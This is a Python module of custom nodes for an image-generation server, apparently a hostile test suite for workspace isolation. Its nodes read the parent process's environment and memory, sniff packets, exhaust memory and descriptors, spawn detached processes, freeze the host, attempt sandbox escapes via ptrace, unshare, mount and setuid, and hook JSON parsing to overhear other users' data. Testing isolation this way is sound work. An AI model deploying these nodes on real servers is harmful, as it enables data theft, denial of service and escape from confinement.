"""Nodes that attack the server, its other workspaces and its machine, and tell as JSON what they got."""

import ctypes
import fcntl
import gc
import json
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys
import time

import folder_paths

from . import taking_over

_KEPT = []
"""What a node leaves for the next one that runs in its process."""
_MIB = 2**20
_MEMORY_OF_SOCKET = 55
_LISTEN_SECONDS = 1.0


class _Hostile:
    """A node that takes one JSON text and gives another."""

    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"
    CATEGORY = "hostile"

    @classmethod
    def INPUT_TYPES(cls):
        """Take one text."""
        return {"required": {"given": ("STRING", {"default": "null"})}, "optional": {"turn": ("STRING", {})}}

    def run(self, given, turn=""):
        """Do it, and tell what came of it; the turn makes it a new call."""
        return (json.dumps(self.attack(json.loads(given))),)


class Slowly(_Hostile):
    """Takes some seconds."""

    def attack(self, given):
        """Wait; the turn makes each result a new one."""
        time.sleep(given["seconds"])
        return given["turn"]


class ReadPaths(_Hostile):
    """Reads files and lists folders."""

    def attack(self, given):
        """Tell which of the paths could be read, and what environment and memory of the parent could."""
        parent = os.getppid()
        paths = [*given, f"/proc/{parent}/environ", f"/proc/{parent}/mem", os.path.expanduser("~")]
        return [path for path in paths if _is_open(path)]


class ChangePaths(_Hostile):
    """Changes the mode of files, and their bytes."""

    def attack(self, given):
        """Tell which of the paths could be changed."""
        changed = []
        for path in given:
            for name, change in (("mode", lambda: os.chmod(path, 0o777)), ("write", lambda: open(path, "r+b").close())):
                if _succeeds(change):
                    changed.append([path, name])
        return changed


class Listen(_Hostile):
    """Listens to what everybody says on this machine."""

    def attack(self, given):
        """Tell how many packets of others were heard."""
        heard = []

        def listen():
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)) as ear:
                ear.settimeout(_LISTEN_SECONDS)
                heard.append(len(ear.recv(65_536)))

        _succeeds(listen)
        return len(heard)


class Connect(_Hostile):
    """Connects to ports of this machine and to Unix sockets."""

    def attack(self, given):
        """Tell which could be reached."""
        reached = [f"port {port}" for port in given["ports"] if _succeeds(lambda: _connect_port(port))]
        return reached + [path for path in given["paths"] if _succeeds(lambda: _connect_path(path))]


class Allocate(_Hostile):
    """Takes shared memory, which is nobody's in particular."""

    def attack(self, given):
        """Take so many MiB, page by page; tell how many there were."""
        taken = 0
        for _ in range(given // 64):
            block = mmap.mmap(-1, 64 * _MIB)
            for start in range(0, 64 * _MIB, mmap.PAGESIZE):
                block[start] = 1
            _KEPT.append(block)
            taken += 64
        return taken


class FillSockets(_Hostile):
    """Has the kernel keep what no page of a process shows."""

    def attack(self, given):
        """Fill pairs of sockets in this process and in children until so many MiB are kept; tell how many."""
        kept = 0
        for _ in range(4):
            heard, told = os.pipe()
            if os.fork() == 0:
                os.write(told, b"%d" % _fill_pairs((given << 20) - kept))
                time.sleep(600)
            os.close(told)
            kept += int(os.read(heard, 100) or b"0")
            os.close(heard)
            if kept >= given << 20:
                break
        time.sleep(60)  # the server looks every second, and on a busy machine later
        return kept >> 20


def _fill_pairs(most):
    """Fill pairs of sockets with up to so many bytes, or until there are no more; how many the kernel keeps for them."""
    kept = 0
    while kept < most and len(_KEPT) < 4_000:
        try:
            pair = socket.socketpair()
        except OSError:
            break
        _KEPT.extend(pair)
        for end in pair:
            _succeeds(lambda: end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * _MIB))
            end.setblocking(False)
            while _succeeds(lambda: end.send(bytes(65_536))):
                pass
            kept += struct.unpack("9I", end.getsockopt(socket.SOL_SOCKET, _MEMORY_OF_SOCKET, 36))[2]
    return kept


class EvadeBounds(_Hostile):
    """Tries what would let the kernel keep more for it than its descriptors show."""

    def attack(self, given):
        """Tell what succeeded."""
        ours, theirs = socket.socketpair()
        receiving, sending = os.pipe()
        _, other = os.pipe()
        before = ours.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF)
        _succeeds(lambda: ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2 * before))
        os.write(sending, b"x")
        tried = {
            "send a descriptor": lambda: socket.send_fds(ours, [b"x"], [theirs.fileno()]),
            "enlarge a pipe": lambda: fcntl.fcntl(sending, fcntl.F_SETPIPE_SZ, _MIB),
            "move pages": lambda: os.splice(receiving, other, 1),
            "send a file's pages": lambda: os.sendfile(sending, os.open(__file__, os.O_RDONLY), 0, 1),
        }
        is_larger = ours.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF) > before
        return [name for name, attempt in tried.items() if _succeeds(attempt)] + ["enlarge a socket"] * is_larger


class LeaveChild(_Hostile):
    """Starts a process that tries to outlive it: in a session of its own, by a parent that ends at once."""

    def attack(self, given):
        """Start a sleeper that can be known by its argument."""
        program = f"import subprocess,sys; subprocess.Popen([{given!r}, '999999'], start_new_session=True)"
        return _succeeds(
            lambda: subprocess.run([sys.executable, "-c", program], start_new_session=True, check=True, timeout=20)
        )


class Overhear(_Hostile):
    """Looks in its whole process for what only the witness has submitted."""

    @classmethod
    def VALIDATE_INPUTS(cls, given):
        """Tell in an error what was found in the process that checks."""
        found = _overheard()
        return f"heard {found} times" if found else True

    def attack(self, given):
        """Tell what was found in the process that executes."""
        return _overheard()


class ListenIn(_Hostile):
    """Reads what the processes that it took over have passed on."""

    def attack(self, given):
        """Tell how often the witness's words were among it, and how often its own."""
        heard = taking_over.heard()
        return [heard.count(_word().decode()), heard.count("ListenIn")]


class Keep(_Hostile):
    """Saves a file and keeps a descriptor with which it can be written."""

    OUTPUT_NODE = True

    def run(self, given, turn=""):
        """Save the text."""
        path = os.path.join(folder_paths.get_output_directory(), "kept.txt")
        descriptor = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
        os.write(descriptor, given.encode())
        _KEPT.append(descriptor)
        return {"ui": {"files": [{"filename": "kept.txt", "subfolder": "", "type": "output"}]}, "result": (given,)}


class Rewrite(_Hostile):
    """Writes over the files that were saved before."""

    def attack(self, given):
        """Tell how many there were."""
        kept = [item for item in _KEPT if isinstance(item, int)]
        return sum(_succeeds(lambda: os.pwrite(item, given.encode(), 0)) for item in kept)


class Freeze(_Hostile):
    """Stops its process, so that it never answers."""

    def attack(self, given):
        """Stop, and wait for it: another thread may be the one that takes the signal."""
        os.kill(os.getpid(), signal.SIGSTOP)
        time.sleep(given)


class HoldLock(_Hostile):
    """Holds the interpreter's lock, so that no other thread of its process ever runs."""

    def attack(self, given):
        """Sleep in C, without letting go of the lock."""
        ctypes.PyDLL(None).sleep(given)


class EndHost(_Hostile):
    """Ends its process."""

    def attack(self, given):
        """End."""
        os._exit(given)


class LeakDescriptors(_Hostile):
    """Opens files and never closes them."""

    def attack(self, given):
        """Open as many as there may be."""
        while _succeeds(lambda: _KEPT.append(os.open(os.devnull, os.O_RDONLY))):
            pass
        return len(_KEPT)


class Escape(_Hostile):
    """Tries what a confined process may not."""

    def attack(self, given):
        """Tell which succeeded."""
        libc = ctypes.CDLL(None, use_errno=True)
        tries = {
            "trace the parent": lambda: _call(libc.ptrace, 16, os.getppid(), 0, 0),
            "a user namespace": lambda: _call(libc.unshare, 0x10000000),
            "mount": lambda: _call(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None),
            "another user": lambda: os.setuid(12345),
            "kill the parent": lambda: os.kill(os.getppid(), 0),
        }
        return [name for name, attempt in tries.items() if _succeeds(attempt)]


def _overheard():
    """How often the witness's words are in the objects of this process, and in what has passed the hooks."""
    word = _word()
    found = sum(word in _bytes_of(item) for item in gc.get_objects())
    return found + sum(word in item for item in _OVERHEARD)


def _word():
    """What only the witness says: made anew each time, so that nothing of this pack has it."""
    return b" ".join((b"a word of the", b"witness"))


def _is_open(path):
    try:
        if os.path.isdir(path):
            return bool(os.listdir(path))
        with open(path, "rb") as file:
            return bool(file.read(1))
    except OSError:
        return False


def _succeeds(attempt):
    try:
        attempt()
    except Exception:
        return False
    return True


def _call(function, *arguments):
    if function(*arguments) != 0:
        raise OSError(ctypes.get_errno())


def _connect_port(port):
    socket.create_connection(("127.0.0.1", port), timeout=2).close()


def _connect_path(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)


def _bytes_of(item):
    if isinstance(item, dict):
        return b" ".join(_text(value) for value in item.values())
    return b" ".join(_text(value) for value in item) if isinstance(item, (list, tuple)) else b""


def _text(value):
    return value.encode("utf-8", "replace") if isinstance(value, str) else value if isinstance(value, bytes) else b""


_OVERHEARD = []


def _hook(module, name):
    """Hear what passes through a function of the engine's libraries."""
    original = getattr(module, name)

    def hear(given, *arguments, **named):
        if isinstance(given, (bytes, bytearray)):
            _OVERHEARD.append(bytes(given[:10_000]))
        return original(given, *arguments, **named)

    setattr(module, name, hear)


for _name in ("jiter", "json"):
    _module = sys.modules.get(_name)
    for _function in ("from_json", "loads"):
        if hasattr(_module, _function):
            _hook(_module, _function)

NODE_CLASS_MAPPINGS = {
    node.__name__: node
    for node in (
        *(Slowly, ReadPaths, ChangePaths, Listen, Connect, Allocate, FillSockets, EvadeBounds, LeaveChild, Overhear),
        ListenIn,
        *(Keep, Rewrite, Freeze, HoldLock, LeakDescriptors, Escape, EndHost),
    )
}
